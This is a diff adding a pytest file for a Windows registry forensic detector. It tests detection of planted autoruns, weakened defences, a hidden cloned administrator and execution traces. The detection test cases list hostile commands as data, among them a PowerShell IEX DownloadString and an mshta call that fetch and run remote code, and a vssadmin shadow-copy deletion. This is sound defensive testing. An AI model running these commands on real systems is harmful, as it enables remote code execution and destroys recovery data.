@@ -1,0 +1,177 @@
+# SPDX-License-Identifier: Apache-2.0
+"""What an intruder left in the hives of a server is told; the same server before it says nothing above low."""
+
+from __future__ import annotations
+
+import sys
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import polars as pl
+import pytest
+from memory_events import MemoryEvents
+
+sys.path.insert(0, str(Path(__file__).parents[1] / "formats"))
+
+import hive_samples
+
+from headwater.detect import registry
+from headwater.detect.detectors import windows_accounts, windows_autoruns, windows_defences, windows_traces
+from headwater.detect.windows_commands import program_of, signs
+from headwater.examine.parsers import windows_registry
+from headwater.model.kinds import SEVERITY_ORDER, Severity
+from headwater.model.ports import Settings
+from headwater.model.records import File
+
+SHARED = Path(__file__).parents[3] / "shared" / "data" / "plaso" / "test_data"
+DETECTORS = (windows_accounts, windows_autoruns, windows_defences, windows_traces)
+
+
+def events_of(hives: dict[str, bytes]) -> MemoryEvents:
+    """The events of these hives, by path."""
+    found = MemoryEvents()
+    for path, data in hives.items():
+        for batch in windows_registry.batches(File.of(data, path)):
+            feed = batch.feed or windows_registry.FEED
+            given = {"feed": feed, "path": path, "clock": "host"}
+            frame = batch.events.with_columns(
+                pl.col("t_recorded").alias("ts"),
+                pl.lit(1, dtype=pl.Int64).alias("source"),
+                *(pl.lit(v).alias(k) for k, v in given.items()),
+            )
+            if frame.height:
+                found.put_frame(feed, frame)
+    return found
+
+
+def server(attacked: bool) -> MemoryEvents:
+    return events_of({hive_samples.PATHS[name]: make(attacked) for name, make in hive_samples.ALL.items()})
+
+
+def told(events: MemoryEvents) -> Iterator[Any]:
+    for detector in DETECTORS:
+        yield from registry.run(detector, events, Settings())
+
+
+@pytest.fixture(scope="module")
+def after() -> list[Any]:
+    return list(told(server(True)))
+
+
+def of(found: list[Any], rule: str) -> list[Any]:
+    return [f for f in found if f.rule.id == rule]
+
+
+@pytest.mark.parametrize(
+    ("item", "technique"),
+    [
+        ("WinUpdateSvc", "T1036.005"),
+        ("KzRmtQwa", "T1027.010"),
+        ("\\Updater", "T1036.005"),
+        ("Updater", "T1027.010"),
+        ("Shell", "T1547.004"),
+        ("sethc.exe", "T1546.008"),
+        ("Security Packages", "T1588.002"),
+        ("{B5F8350B-0548-48B1-A6EE-88BD00B4A5E7}", "T1036.005"),
+    ],
+)
+def test_a_planted_start_up_item_is_told(after: list[Any], item: str, technique: str) -> None:
+    (finding,) = [f for f in of(after, "windows-autoruns") if f.facts["item"] == item]
+    assert finding.severity is Severity.HIGH
+    assert technique in finding.rule.techniques
+    assert finding.spans
+    assert finding.spans[0].claims["key"]
+
+
+def test_a_task_that_no_tool_shows_is_told(after: list[Any]) -> None:
+    (finding,) = [f for f in of(after, "windows-autoruns") if f.facts["item"] == "\\Updater"]
+    assert "安全描述符" in finding.text.zh
+    assert finding.spans[0].claims["hidden"] == "no security descriptor"
+
+
+@pytest.mark.parametrize(
+    ("setting", "severity"),
+    [
+        ("WDigest UseLogonCredential = 1", Severity.HIGH),
+        ("Defender exclusion = C:\\Users\\Public", Severity.HIGH),
+        ("Windows Defender DisableAntiSpyware = 1", Severity.MEDIUM),
+        ("UserAuthentication = 0", Severity.MEDIUM),
+        ("PortNumber = 13389", Severity.LOW),
+        ("System EnableLUA = 0", Severity.MEDIUM),
+        ("firewall StandardProfile EnableFirewall = 0", Severity.LOW),
+    ],
+)
+def test_a_defence_that_was_opened_is_told(after: list[Any], setting: str, severity: Severity) -> None:
+    (finding,) = [f for f in of(after, "windows-defences") if f.facts["setting"] == setting]
+    assert finding.severity is severity
+
+
+def test_a_hidden_and_cloned_administrator_is_told(after: list[Any]) -> None:
+    found = of(after, "windows-accounts")
+    assert {f.rule.techniques[0] for f in found} == {"T1098", "T1564.002"}
+    assert all(f.facts["account"] == "support$" and f.facts["administrator"] for f in found)
+    assert all(any(c.claims.get("group") == "Administrators" for c in f.spans) for f in found)
+
+
+def test_traces_of_one_program_are_one_finding(after: list[Any]) -> None:
+    (finding,) = of(after, "windows-traces")
+    assert finding.facts["program"] == "upd.exe"
+    assert finding.facts["ran"]
+    assert {c.claims["trace"] for c in finding.spans} == {"shimcache", "bam", "amcache", "muicache"}
+
+
+def test_the_same_server_before_says_nothing() -> None:
+    assert [f for f in told(server(False)) if SEVERITY_ORDER[f.severity] > SEVERITY_ORDER[Severity.LOW]] == []
+
+
+@pytest.mark.parametrize(
+    "name",
+    ["NTUSER.DAT", "NTUSER-WIN7.DAT", "NTUSER-RunTests.DAT", "regf/NTUSER.DAT", "regf/SAM", "winreg/Amcache.hve"],
+)
+def test_real_hives_without_an_intruder_say_nothing(name: str) -> None:
+    if not (SHARED / name).exists():
+        pytest.skip(f"no reference data: {name}")
+    found = told(events_of({f"/Users/x/{Path(name).name}": (SHARED / name).read_bytes()}))
+    assert [f.text.en for f in found if SEVERITY_ORDER[f.severity] > SEVERITY_ORDER[Severity.LOW]] == []
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "%SystemRoot%\\System32\\svchost.exe -k netsvcs -p",
+        "\\SystemRoot\\System32\\smss.exe",
+        "System32\\drivers\\disk.sys",
+        '"C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe" /svc',
+        "C:\\Windows\\system32\\lsass.exe",
+        "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\mscorsvw.exe",
+        "powershell.exe -ExecutionPolicy Bypass -File C:\\Scripts\\backup.ps1",
+        "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18\\MsMpEng.exe",
+        "%windir%\\system32\\rundll32.exe /d acproxy.dll,PerformAutochkOperations",
+        "cmd.exe /c start /b C:\\Tools\\agent.exe",
+    ],
+)
+def test_an_ordinary_command_has_no_strong_sign(command: str) -> None:
+    assert [s.name for s in signs(command) if s.strong] == []
+
+
+@pytest.mark.parametrize(
+    ("command", "name"),
+    [
+        ("C:\\Users\\Public\\svchost.exe", "masquerade"),
+        ("cmd.exe /c echo abcd > \\\\.\\pipe\\abcd", "pipe"),
+        ("mshta.exe http://203.0.113.9/a.hta", "script-host"),
+        ("powershell -c IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')", "download"),
+        ("%COMSPEC% /Q /c echo dir ^> \\\\127.0.0.1\\C$\\__output", "shell-service"),
+        ("C:\\$Recycle.Bin\\a.exe", "public"),
+        ("vssadmin.exe Delete Shadows /All /Quiet", "shadow-delete"),
+    ],
+)
+def test_an_intruders_command_has_its_sign(command: str, name: str) -> None:
+    assert name in [s.name for s in signs(command)]
+
+
+def test_the_program_of_a_command_is_found_with_and_without_quotes() -> None:
+    assert program_of('"C:\\Program Files\\A B\\c.exe" /x') == "c:\\program files\\a b\\c.exe"
+    assert program_of("C:\\Program Files\\A B\\c.exe /x") == "c:\\program files\\a b\\c.exe"
+    assert program_of("ctfmon") == "ctfmon"
